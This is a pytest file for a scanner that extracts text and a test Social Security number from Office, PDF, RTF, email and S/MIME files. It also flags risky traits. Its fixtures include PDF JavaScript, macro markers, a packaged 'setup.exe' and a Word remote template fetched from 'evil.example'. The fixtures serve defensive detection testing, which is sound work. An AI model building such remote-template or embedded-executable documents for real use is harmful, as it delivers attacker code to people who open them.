"""Documents: text wherever a person could find it, and the facts that rules ask for."""

import io
import subprocess
from functools import partial
from pathlib import Path

import pypdfium2
import pytest

from tests.unit.checks.reading.conftest import ReadFile
from tests.unit.checks.reading.making import (
    SSN,
    compound,
    doc,
    docx,
    odt,
    outlook,
    pdf,
    ppt,
    pptx,
    tnef,
    with_files,
    xls,
    xlsx,
    zipped,
)


def test_word_document(read: ReadFile) -> None:
    """Runs of a line are joined; comments, headers and properties are read, each with its place."""
    found = read(docx(f"The number is {SSN}.", comment="mind this", header="letterhead", title="About Jo"))
    assert found.places(f"The number is {SSN}.") == [""]
    assert found.places("mind this") == ["comments"]
    assert found.places("letterhead") == ["header"]
    assert found.places("About Jo") == ["properties"]
    assert not found.codes


def test_hyphens_that_do_not_break_are_hyphens(read: ReadFile) -> None:
    """Word keeps them as an element; left out, 536-90-4399 would be another number."""
    w = "<w:document xmlns:w='w'><w:p><w:r><w:t>536</w:t><w:noBreakHyphen/><w:t>90</w:t><w:noBreakHyphen/>"
    body = f"{w}<w:t>4399</w:t></w:r></w:p></w:document>"
    assert SSN in read(zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": body.encode()})).text


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1"])
def test_parts_in_other_encodings(read: ReadFile, encoding: str) -> None:
    """A document part need not be UTF-8."""
    head = f"<?xml version='1.0' encoding='{encoding}'?>"
    body = f"{head}<w:document xmlns:w='w'><w:p><w:t>né {SSN}</w:t></w:p></w:document>"
    assert f"né {SSN}" in read(zipped({"[Content_Types].xml": b"<T/>", "word/x.xml": body.encode(encoding)})).text


def test_workbook(read: ReadFile) -> None:
    """A row is a line; hidden sheets, comments and number formats are read as a person would see them."""
    found = read(xlsx([["name", "SSN"], ["Jo", 53690439]], [["hidden", SSN]], mask="000\\-00\\-0000", note="a note"))
    assert found.places("Jo\t053-69-0439") == ["sheet Staff"]
    assert found.places(f"hidden\t{SSN}") == ["sheet Secret (hidden)"]
    assert found.places("a note") == ["comments"]


def test_strings_that_no_cell_shows(read: ReadFile) -> None:
    """What stands in the shared strings alone is text too."""
    strings = f"<sst xmlns='x'><si><t>shown</t></si><si><t>{SSN}</t></si></sst>"
    sheet = "<worksheet><sheetData><row><c t='s'><v>0</v></c></row></sheetData></worksheet>"
    files = {
        "[Content_Types].xml": b"<T/>",
        "xl/worksheets/sheet1.xml": sheet.encode(),
        "xl/sharedStrings.xml": strings.encode(),
    }
    found = read(zipped(files))
    assert found.places("shown") == ["sheet 1"]
    assert found.places(SSN) == ["unused strings"]


def test_presentation_and_open_document(read: ReadFile) -> None:
    """Slides, notes; paragraphs, spaces and tabs of OpenDocument."""
    slides = read(pptx(f"slide {SSN}", notes="for the speaker"))
    assert slides.places(SSN) == ["slide 1"]
    assert slides.places("for the speaker") == ["notes 1"]
    assert f"text {SSN}\na b\tc" in read(odt(f"text {SSN}")).text


def test_pdf(read: ReadFile) -> None:
    """Page text, form fields with their labels, annotations; JavaScript is a fact."""
    found = read(pdf([f"line {SSN}"], field="111-22-3333", note="look here", script="app.alert(1)"))
    assert found.places(f"line {SSN}") == ["page 1"]
    assert "Social Security number: 111-22-3333" in found.text
    assert "look here" in found.text
    assert found.codes == {"pdf-javascript"}


def test_a_plain_pdf_has_no_facts(read: ReadFile) -> None:
    """Nothing is said of a harmless file."""
    assert not read(pdf(["hello"])).facts


def test_files_inside_a_pdf(read: ReadFile) -> None:
    """An embedded file is a member, read in turn."""
    document = pypdfium2.PdfDocument(pdf(["cover"]))
    document.new_attachment("inner.docx").set_data(docx(f"deep {SSN}"))
    out = io.BytesIO()
    document.save(out)
    found = read(out.getvalue())
    assert found.places(f"deep {SSN}") == ["inner.docx"]
    assert found.files[0].media_type.endswith("wordprocessingml.document")


def test_old_office(read: ReadFile) -> None:
    """Word 97 in both widths of characters, PowerPoint 97, Excel 97."""
    assert read(doc(f"Old text with {SSN} in it")).text == f"Old text with {SSN} in it"
    assert SSN in read(ppt(f"slide {SSN}")).text
    found = read(xls([["SSN", SSN], ["number", 536904399]]))
    assert f"SSN\t{SSN}" in found.text
    assert "number\t536904399" in found.text


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (pdf(["x"], password="secret"), "content-encrypted"),
        (doc("x" * 40, encrypted=True), "content-encrypted"),
        (xls([["x"]], encrypted=True), "content-encrypted"),
        (compound({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}), "content-encrypted"),
        (
            zipped(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.text",
                    "META-INF/manifest.xml": b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>",
                    "content.xml": b"\x93\x01\xff\x00",
                }
            ),
            "content-encrypted",
        ),
        (b"age-encryption.org/v1\n-> X25519 abc\n", "content-encrypted"),
        (b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", "pgp-encrypted"),
        (b"\x85\x01\x0c\x03" + bytes(range(200)), "pgp-encrypted"),
        (doc("x" * 40, macros=True), "office-macros"),
        (with_files(docx("x"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "office-macros"),
        (
            with_files(
                docx("x"),
                {
                    "word/_rels/settings.xml.rels": b'<R><Relationship Id="1" Type="http://x/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></R>'
                },
            ),
            "remote-template",
        ),
        (with_files(docx("x"), {"word/embeddings/oleObject1.bin": compound({"a": b"b"})}), "embedded-object"),
    ],
)
def test_facts(read: ReadFile, data: bytes, code: str) -> None:
    """Encryption, macros, templates from elsewhere and embedded objects are told by content."""
    assert read(data).codes == {code}


def test_files_inside_documents(read: ReadFile) -> None:
    """An embedded workbook, and a package that a double click opens, are read like attachments."""
    found = read(with_files(docx("x"), {"word/embeddings/book.xlsx": xlsx([[SSN]])}))
    assert found.places(SSN) == ["book.xlsx, sheet Staff"]
    name = b"setup.exe\0"
    inner = b"\x02\0" + name + name + bytes(4) + (len(name)).to_bytes(4, "little") + name
    inner += (302).to_bytes(4, "little") + b"MZ" + bytes(300)
    native = len(inner).to_bytes(4, "little") + inner
    packed = read(compound({"WordDocument": b"x", "ObjectPool/_1/\x01Ole10Native": native}))
    assert "embedded-object" in packed.codes
    assert [(f.name, f.media_type) for f in packed.files] == [("setup.exe", "application/x-dosexec")]


def test_outlook_files(read: ReadFile) -> None:
    """winmail.dat and .msg: subject, body, attachments with their names."""
    found = read(tnef(f"body {SSN}", {"staff.txt": b"inner text"}))
    assert found.places(SSN) == [""]
    assert found.places("inner text") == ["staff.txt"]
    message = read(outlook("About Jo", f"body {SSN}", {"letter.docx": docx("a letter")}))
    assert message.places("About Jo") == ["subject"]
    assert SSN in message.text
    assert [f.name.rstrip("\0") for f in message.files] == ["letter.docx"]


def test_rtf(read: ReadFile) -> None:
    """Formatting inside a number leaves no trace; code pages, Unicode and ignorable groups are read."""
    source = (
        rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 536-90-0000;}}No 536{\b -90}-43\'39\'39 "
        rb"caf\'e9 \u8364? x\par {\*\foo hid}}"
    )
    found = read(source)
    assert f"No {SSN} café € x" in found.text
    assert "hid" in found.text
    assert "0000" not in found.text


def test_an_object_in_rtf(read: ReadFile) -> None:
    """The file inside an RTF object is a member."""
    inner = compound({"WordDocument": b"x" * 10 + b" readable words"})
    source = b"{\\rtf1 x{\\object{\\*\\objdata 0105000002000000" + inner.hex().encode() + b"}}}"
    found = read(source)
    assert "embedded-object" in found.codes
    assert "readable words" in found.text


@pytest.mark.parametrize("charset", ["utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "utf-8-sig", "latin-1"])
def test_text_in_any_charset(read: ReadFile, charset: str) -> None:
    """Texts without a declared charset; with a byte order mark or not."""
    assert f"number {SSN}" in read(f"The number {SSN} is plain".encode(charset), "notes.txt").text


def test_markup_calendars_and_messages(read: ReadFile) -> None:
    """Tags, folded lines and transfer encodings hide nothing; a calendar's attached file is a member."""
    assert SSN in read(b"<html><body>536<b>-90</b>-4399</body></html>").text
    event = (
        b"BEGIN:VCALENDAR\r\nDESCRIPTION:No 536-90\r\n -4399\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;"
        b"FILENAME=a.txt:aW5uZXIg\r\n dGV4dCBoZXJl\r\nEND:VCALENDAR\r\n"
    )
    found = read(event)
    assert SSN in found.text
    assert found.places("inner text here") == ["a.txt"]
    raw = (
        b"From: a@b\r\nTo: c@d\r\nSubject: =?utf-8?q?About_Jo?=\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nNTM2LTkwLTQzOTk=\r\n"
    )
    message = read(raw, "forwarded.eml")
    assert message.places("About Jo") == ["subject"]
    assert message.places(SSN) == ["1"]


def test_signed_content_is_opened(read: ReadFile, tmp_path: Path) -> None:
    """Opaque S/MIME made by openssl is read, DER and PEM; detached signatures hold nothing; encrypted is a fact."""
    run = partial(subprocess.run, check=True, cwd=tmp_path, capture_output=True)
    subject = ["-subj", "/CN=clerk", "-keyout", "k.pem", "-out", "c.pem", "-newkey", "ec", "-pkeyopt"]
    run(["openssl", "req", "-x509", "-nodes", *subject, "ec_paramgen_curve:P-256"])
    (tmp_path / "m").write_bytes(b"Subject: About Jo\r\nFrom: a@b\r\nTo: c@d\r\n\r\nnumber " + SSN.encode())
    sign = ["openssl", "cms", "-sign", "-binary", "-in", "m", "-signer", "c.pem", "-inkey", "k.pem"]
    for form in (
        ["-nodetach", "-outform", "DER"],
        ["-nodetach", "-outform", "PEM"],
        ["-nodetach", "-stream", "-outform", "DER"],
    ):
        found = read(run([*sign, *form]).stdout)
        assert f"number {SSN}" in found.text
        assert "About Jo" in found.text
    detached = read(run([*sign, "-outform", "DER"]).stdout)
    assert (detached.texts, detached.facts) == ([], [])
    sealed = run(
        ["openssl", "cms", "-encrypt", "-binary", "-in", "m", "-outform", "DER", "-aes-256-cbc", "c.pem"]
    ).stdout
    assert read(sealed).codes == {"smime-encrypted"}


def test_what_no_reader_knows_gives_its_strings(read: ReadFile) -> None:
    """Unknown binary data is looked through for readable runs, and is no fault."""
    found = read(
        b"\x01\x02\xfe" * 50 + f"number {SSN}".encode() + b"\0\xff" + "wide text".encode("utf-16-le") + bytes(9)
    )
    assert SSN in found.text
    assert "wide text" in found.text
    assert not found.facts
